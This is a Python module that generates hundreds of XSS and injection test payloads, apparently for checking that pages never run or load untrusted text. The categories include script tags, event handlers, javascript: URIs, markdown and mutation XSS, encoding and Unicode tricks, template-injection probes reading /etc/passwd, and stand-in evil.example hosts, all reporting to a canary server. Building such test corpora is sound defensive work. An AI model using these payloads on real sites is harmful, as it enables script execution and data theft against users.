"""Text that would run or load something if any page took it for markup: many kinds, made from words of our own and
from well-known public vectors. Each tells its number, to a function in the page or to a canary server."""

from __future__ import annotations

import base64
import itertools
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from urllib.parse import quote

_RUN = "__owned(@N@)"
_LOAD = "@C@/@N@"


@dataclass(frozen=True)
class Payload:
    """``text`` is what is put in; ``label`` is a word before it by which it is found again on a page."""

    number: int
    kind: str
    text: str

    @property
    def label(self) -> str:
        return f"zorb{self.number}"

    @property
    def sentence(self) -> str:
        return f"{self.label} said {self.text}"


def payloads(canary: str) -> list[Payload]:
    """All of them, each once. ``canary`` is the address (scheme, host, port) that none may ever reach."""
    found = [(kind, one) for kind, make in KINDS.items() for one in dict.fromkeys(make())]
    return [
        Payload(number, kind, one.replace("@N@", str(number)).replace("@C@", canary))
        for number, (kind, one) in enumerate(found)
    ]


def sample(of: list[Payload], count: int) -> list[Payload]:
    """``count`` of them, over all kinds: the first of every kind, then the second, and so on."""
    by_kind = [[one for one in of if one.kind == kind] for kind in KINDS]
    in_turn = [one for several in itertools.zip_longest(*by_kind) for one in several if one is not None]
    return in_turn[:count]


def _scripts() -> Iterator[str]:
    yield from (
        f"<{tag}>{_RUN}</{tag}>"
        for tag in ("script", "SCRIPT", "ScRiPt", "script ", "script/x", "script\n", "script\t")
    )
    yield from (
        f"<script {how}>{_RUN}</script>" for how in ("type=module", "defer", "async", "type=text/javascript", "nonce=a")
    )
    yield from (
        f"<script src={address}></script>"
        for address in (_LOAD, f'"{_LOAD}"', f"'{_LOAD}'", f"data:text/javascript,{_RUN}")
    )
    yield "<script>alert(@N@)</script>"
    yield "<script>document.title='owned @N@'</script>"
    yield f"<script>fetch('{_LOAD}')</script>"
    yield f"<script>navigator.sendBeacon('{_LOAD}')</script>"
    yield f"<script>new Image().src='{_LOAD}'</script>"
    yield f"<script>window.open('{_LOAD}')</script>"
    yield f"<<script>{_RUN}//<</script>"
    yield f"<scr<script>ipt>{_RUN}</scr</script>ipt>"
    yield f"<script>{_RUN}"
    yield f"</script><script>{_RUN}</script>"
    yield f"<script><!--\n{_RUN}\n--></script>"
    yield f"<svg><script>{_RUN}</script></svg>"
    yield f"<svg><script href='data:text/javascript,{_RUN}' /></svg>"
    yield f"<math><script>{_RUN}</script></math>"


_TAGS = (
    ("img", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("input", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("iframe", "", "onload"),
    ("object", "data=x", "onerror"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("style", "", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("marquee", "", "onstart"),
    ("a", "href=#", "onmouseover"),
    ("div", "contenteditable tabindex=0", "onfocus"),
    ("p", "", "onpointerenter"),
    ("button", "popovertarget=x", "onclick"),
    ("embed", "src=x", "onload"),
    ("image", "src=x", "onerror"),
    ("x", "id=x tabindex=1", "onfocusin"),
    ("form", "", "onformdata"),
)


def _handlers() -> Iterator[str]:
    for tag, more, event in _TAGS:
        yield f"<{tag} {more} {event}={_RUN}>"
        yield f'<{tag} {more} {event}="{_RUN}">'
        yield f"<{tag.upper()}/{more.replace(' ', '/')}/{event.upper()}='{_RUN}'>"
        yield f"<{tag}\n{more}\t{event}\n=\n{_RUN.replace('(', '&#40;').replace(')', '&#x29;')}>"
    yield "<img src=x onerror=alert(@N@)>"
    yield "<img src=x onerror=confirm`@N@`>"
    yield f"<img src=x onerror=eval(atob('{base64.b64encode(b'document.title=`owned`').decode()}'))>"
    yield f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>"
    yield f"<svg><set attributename=href to='javascript:{_RUN}' begin=0s></set><a>x</a></svg>"
    yield f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_RUN}>x</b>"


_SPELLINGS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"java\rscript:{_RUN}",
    f" javascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript\t:{_RUN}",
    f"javascript://%0a{_RUN}",
    f"javascript&colon;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"&#x6A;&#x61;vascript:{_RUN}",
    f"java&Tab;script:{_RUN}",
    f"javascript:/*--></title></style></textarea>*/{_RUN}",
    f"javascript&#58;{_RUN}",
    f"%6aavascript:{_RUN}",
    f"vbscript:{_RUN}",
    "VBScript:MsgBox(@N@)",
    f"livescript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"data:text/html;base64,{base64.b64encode(b'<script>alert(1)</script>').decode()}#@N@",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    "DATA:text/html,@N@",
    f"feed:javascript:{_RUN}",
    f"view-source:javascript:{_RUN}",
    "file:///etc/passwd#@N@",
    "blob:@C@/@N@",
    "filesystem:@C@/temporary/@N@",
    f"https:javascript:{_RUN}",
    "intent://x#Intent;scheme=@N@;end",
    "//evil.example/@N@",
    "\\\\evil.example\\@N@",
    "http:evil.example/@N@",
    "https://a@evil.example/@N@",
)


def _addresses() -> Iterator[str]:
    for address in _SPELLINGS:
        yield address
        yield f'<a href="{address}">x</a>'
        yield f"[x]({address})"
    for address in _SPELLINGS[:6]:
        yield f"<{address}>"
        yield f"<iframe src='{address}'></iframe>"
        yield f"<form action='{address}'><button autofocus>x</button></form>"
        yield f"<svg><a xlink:href='{address}'><text>x</text></a></svg>"
        yield f"<math href='{address}'>x</math>"
        yield f"<object data='{address}'></object>"


def _loading() -> Iterator[str]:
    for tag in (
        "<img src=@@>",
        "<img srcset='@@ 1x'>",
        "<img src=x style='background:url(@@)'>",
        "<image href=@@>",
        "<iframe src=@@></iframe>",
        "<iframe srcdoc='<img src=@@>'></iframe>",
        "<meta http-equiv=refresh content='0;url=@@'>",
        "<base href=@@/>",
        "<link rel=stylesheet href=@@>",
        "<link rel=prefetch href=@@>",
        "<link rel=preload as=image href=@@>",
        "<link rel=modulepreload href=@@>",
        "<link rel=dns-prefetch href=@@>",
        "<link rel=preconnect href=@@>",
        "<link rel=icon href=@@>",
        "<link rel=manifest href=@@>",
        "<a href=/ ping=@@>x</a>",
        "<video src=@@></video>",
        "<video poster=@@></video>",
        "<audio src=@@></audio>",
        "<video><source src=@@></video>",
        "<video src=x><track default src=@@></video>",
        "<object data=@@></object>",
        "<embed src=@@>",
        "<input type=image src=@@>",
        "<body background=@@>",
        "<table background=@@>",
        "<style>@import url(@@);</style>",
        "<style>*{background:url(@@)}</style>",
        "<style>@font-face{font-family:x;src:url(@@)}*{font-family:x}</style>",
        "<div style=\"background-image:url('@@')\">x</div>",
        "<div style='width:expression(@@)'>x</div>",
        "<div style='-moz-binding:url(@@)'>x</div>",
        "<svg><image href=@@ /></svg>",
        "<svg><use href=@@#x /></svg>",
        "<svg><feImage href=@@ /></svg>",
        "<frameset><frame src=@@></frameset>",
        "<applet code=@@></applet>",
        "<bgsound src=@@>",
        "<form id=f action=@@></form><input form=f type=submit autofocus>",
        "<portal src=@@></portal>",
        "<picture><source srcset=@@><img></picture>",
        "<xml src=@@>",
        "<iframe srcdoc='&lt;script src=@@&gt;&lt;/script&gt;'></iframe>",
        "<svg><style>@import '@@'</style></svg>",
        "<math><mglyph src=@@></math>",
        "<script src=@@></script>",
        "<style>input[value^=a]{background:url(@@)}</style>",
        "<link rel='shortcut icon' href=@@>",
        "<q cite=@@>x</q>",
    ):
        yield tag.replace("@@", _LOAD)


def _markdown() -> Iterator[str]:
    yield f"![x]({_LOAD})"
    yield f"![x](<{_LOAD}>)"
    yield f'![x]({_LOAD} "a title")'
    yield f"![x][r@N@]\n\n[r@N@]: {_LOAD}"
    yield f"![r@N@][]\n\n[r@N@]: <{_LOAD}>"
    yield f"[![x]({_LOAD})](javascript:{_RUN})"
    yield f"[x][r@N@]\n\n[r@N@]: javascript:{_RUN}"
    yield f"<{_LOAD}>"
    yield f"[x]({_LOAD})"
    yield f"[x](javascript:{_RUN} 'a')"
    yield f"![x](x' onerror='{_RUN})"
    yield f'![x](x" onerror="{_RUN})'
    yield f'![{_LOAD}" onerror={_RUN} x="](x)'
    yield f"</div>\n\n<script>{_RUN}</script>"
    yield f"\n\n    </code></pre><script>{_RUN}</script>"
    yield f"```html\n<script>{_RUN}</script>\n```"
    yield f"`` </code><img src=x onerror={_RUN}> ``"
    yield f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | ![x]({_LOAD}) |"
    yield f"[^1]\n\n[^1]: <img src=x onerror={_RUN}>"
    yield f"# <img src=x onerror={_RUN}>"
    yield f"- [x] ![x]({_LOAD})"
    yield f"> ![x]({_LOAD})\n> <script>{_RUN}</script>"
    yield f"<!-- -->![x]({_LOAD})<!-- -->"
    yield f"\\<img src=x onerror={_RUN}\\>"


def _encoded() -> Iterator[str]:
    for plain in (f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f'"><svg onload={_RUN}>'):
        yield escape(plain)
        yield escape(escape(plain))
        yield quote(plain, safe="@")
        yield quote(quote(plain, safe="@"), safe="@")
        yield plain.replace("<", "\\u003c").replace(">", "\\u003e")
        yield plain.replace("<", "\\x3c").replace(">", "\\x3e")
        yield plain.replace("<", "&#60;").replace(">", "&#62;")
        yield plain.replace("<", "&#x0003c").replace(">", "&#x0003e")
        yield plain.replace("<", "&lt").replace(">", "&gt")
        yield plain.replace("<", "+ADw-").replace(">", "+AD4-")
        yield plain.replace("<", "＜").replace(">", "＞")


def _mutating() -> Iterator[str]:
    run = f"<img src=x onerror={_RUN}>"
    yield f'<noscript><p title="</noscript>{run}">'
    yield f'<textarea><p title="</textarea>{run}">'
    yield f'<xmp><p title="</xmp>{run}">'
    yield f'<noembed><p title="</noembed>{run}">'
    yield f'<iframe><p title="</iframe>{run}">'
    yield f'<title><p title="</title>{run}">'
    yield f'<style><p title="</style>{run}">'
    yield f'<svg></p><style><a id="</style>{run}">'
    yield f'<svg><style><p title="</style>{run}">'
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{run}"
    yield f"<math><mi><table><mi><mglyph></mglyph><malignmark></mi></table><style><!--</style>{run}-->"
    yield f"<svg><![CDATA[><image href='x' onerror={_RUN}>]]>"
    yield f"<!--><svg onload={_RUN}>-->"
    yield f"<!--!>{run}-->"
    yield f"<![><img src='x]>{run}'>"
    yield f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y '{run}'>]>&y;"
    yield f"<template><s>{run}</s></template>"
    yield f"<template shadowrootmode=open>{run}</template>"
    yield f"<select><option><style></option></select>{run}</style>"
    yield f"<a id=x><a id=x name=y href='javascript:{_RUN}'>"
    yield f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>"
    yield f"<svg><foreignObject><math><annotation-xml encoding='text/html'>{run}"
    yield f"<plaintext>{run}"


def _breaking_out() -> Iterator[str]:
    run = f"<svg onload={_RUN}>"
    for end in (
        '">',
        "'>",
        "`>",
        ">",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "*/",
        "</a></p>",
        "</blockquote></div>",
        '\\">',
        "</details></ul>",
        "</mark></article>",
        "</q>",
        "</span></li></ol>",
        "</iframe>",
        "--!>",
        "%>",
        "}}",
        "</template>",
        "</select>",
        "</button>",
    ):
        yield end + run
    yield f'" autofocus tabindex=1 onfocus={_RUN} x="'
    yield f"' autofocus tabindex=1 onfocus={_RUN} x='"
    yield f'" style="animation-name:x" onanimationstart="{_RUN}'
    yield f"'-{_RUN}-'"
    yield f'"-{_RUN}-"'
    yield f"\\'-{_RUN}//"
    yield f"'+{_RUN}+'"
    yield f"</script><img src='{_LOAD}?"
    yield f'<img src="{_LOAD}?'
    yield f"<img src='{_LOAD}?"
    yield f'<a href="{_LOAD}?'
    yield f"<iframe src='{_LOAD}?"
    yield f"<base target='{_LOAD}"
    yield f"<img src=x onerror={_RUN}"
    yield f"<img src=x onerror={_RUN} "
    yield f"<svg/onload={_RUN}//"


def _templates() -> Iterator[str]:
    yield "{{7*7}}@N@"
    yield "{{ config }}@N@"
    yield "{{ self.__init__.__globals__ }}@N@"
    yield "{{ ''.__class__.__mro__[1].__subclasses__() }}@N@"
    yield "{% include '/etc/passwd' %}@N@"
    yield "{{constructor.constructor('" + _RUN + "')()}}"
    yield "{{$on.constructor('" + _RUN + "')()}}"
    yield "${" + _RUN + "}"
    yield "${{7*7}}@N@"
    yield "#{" + _RUN + "}"
    yield "<%= " + _RUN + " %>"
    yield "[[${7*7}]]@N@"
    yield "`${" + _RUN + "}`"
    yield f"<div ng-app ng-csp ng-init={_RUN}></div>"
    yield f"<div x-data x-init={_RUN}></div>"
    yield f"<div hx-get={_LOAD} hx-trigger=load></div>"
    yield f"<div v-html=\"'<img src=x onerror={_RUN}>'\"></div>"
    yield "{value}@N@{base}{0}%s%(x)s$question"


def _mathematics() -> Iterator[str]:
    for one in (
        f"\\href{{javascript:{_RUN}}}{{x}}",
        f"\\url{{javascript:{_RUN}}}",
        f"\\includegraphics{{{_LOAD}}}",
        f"\\htmlData{{x=y}}{{<img src=x onerror={_RUN}>}}",
        f"\\text{{<img src=x onerror={_RUN}>}}",
        f"\\style{{background:url({_LOAD})}}{{x}}",
    ):
        yield f"${one}$"
        yield f"$${one}$$"
        yield f"\\({one}\\)"


def _messages() -> Iterator[str]:
    image = f"<img src=x onerror={_RUN}>"
    yield '{"name": "' + image + '", "about": "@N@"}'
    yield '{"link": "@C@/@N@"}'
    yield '{"value": "' + image + '", "more": {}}'
    yield '{"role": "assistant", "content": "' + image + '"}'
    yield '[{"type": "text", "text": "' + image + '"}]'
    yield '{"title": "' + image + '"}'
    yield '["' + image + '", "' + image + '"]'
    yield "/articles/@N@?next=@C@/@N@"
    yield "![x](/articles/@N@?next=@C@/@N@)"
    yield "<img src='/articles/@N@?next=@C@/@N@'>"
    yield "next=@C@/@N@"
    yield f"<unknown-element src='{_LOAD}'></unknown-element>"
    yield f"<video src='/articles/@N@?next={_LOAD}'>"
    yield f"<thinking>{image}</thinking>"
    yield f"<details><summary>{image}</summary></details>"


def _characters() -> Iterator[str]:
    yield f"<scr\x00ipt>{_RUN}</scr\x00ipt>"
    yield f"<img src=x one\x00rror={_RUN}>"
    yield f"<\u200bscript>{_RUN}</script>"
    yield f"<script\u00a0>{_RUN}</script>"
    yield f"<script\u2028>{_RUN}</script>"
    yield f"\u202e<img src=x onerror={_RUN}>\u202c"
    yield f"\u2066<script>{_RUN}</script>\u2069"
    yield f"\ufeff<script>{_RUN}</script>"
    yield f"<ſcript>{_RUN}</ſcript>"
    yield f"<ımg src=x onerror={_RUN}>"
    yield f"<img\u3000src=x onerror={_RUN}>"
    yield f"<img\x0csrc=x\x0bonerror={_RUN}>"
    yield f"<a\u0338href='javascript:{_RUN}'>x</a>"
    yield "".join(chr(0xE0000 + ord(letter)) for letter in "<script>") + f"{_RUN}@N@"
    yield f"‹script›{_RUN}‹/script›"
    yield f"\x1b]8;;javascript:{_RUN}\x07x\x1b]8;;\x07"
    yield f"<img src=x onerror={_RUN}>" + "\u0301" * 20


def _polyglots() -> Iterator[str]:
    yield (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=" + _RUN + " )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=" + _RUN + "//>\\x3e"
    )
    yield f'">><marquee><img src=x onerror={_RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover={_RUN}>'
    yield f"';{_RUN}//\\';{_RUN}//\";{_RUN}//\\\";{_RUN}//--></SCRIPT>\">'><SCRIPT>{_RUN}</SCRIPT>"
    yield f"'\"()&%<acx><ScRiPt >{_RUN}</ScRiPt>"
    yield '-->\'"/></sCript><svg x=">" onload=(co\\u006efirm)(@N@)>'


KINDS = {
    "script": _scripts,
    "handler": _handlers,
    "address": _addresses,
    "loading": _loading,
    "markdown": _markdown,
    "encoded": _encoded,
    "mutating": _mutating,
    "breaking out": _breaking_out,
    "template": _templates,
    "mathematics": _mathematics,
    "message": _messages,
    "character": _characters,
    "polyglot": _polyglots,
}
